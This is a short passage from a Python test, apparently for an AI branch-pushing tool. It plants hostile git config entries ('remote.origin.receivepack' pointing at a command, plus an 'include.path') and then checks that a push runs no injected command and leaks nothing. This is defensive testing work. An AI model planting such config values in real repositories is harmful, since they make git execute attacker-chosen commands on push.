        ("remote.origin.receivepack", grab),
        ("include.path", str(included)),
    ]:
        git(ws.path, "config", "--add", key, value)
    (ws.path / "c.txt").write_text("c\n")
    sha = ws.commit_all("c", *AUTHOR)

    ws.push()

    assert not leak.exists()
    assert upstream.rev("refs/heads/ai-feature/issue-10") == sha
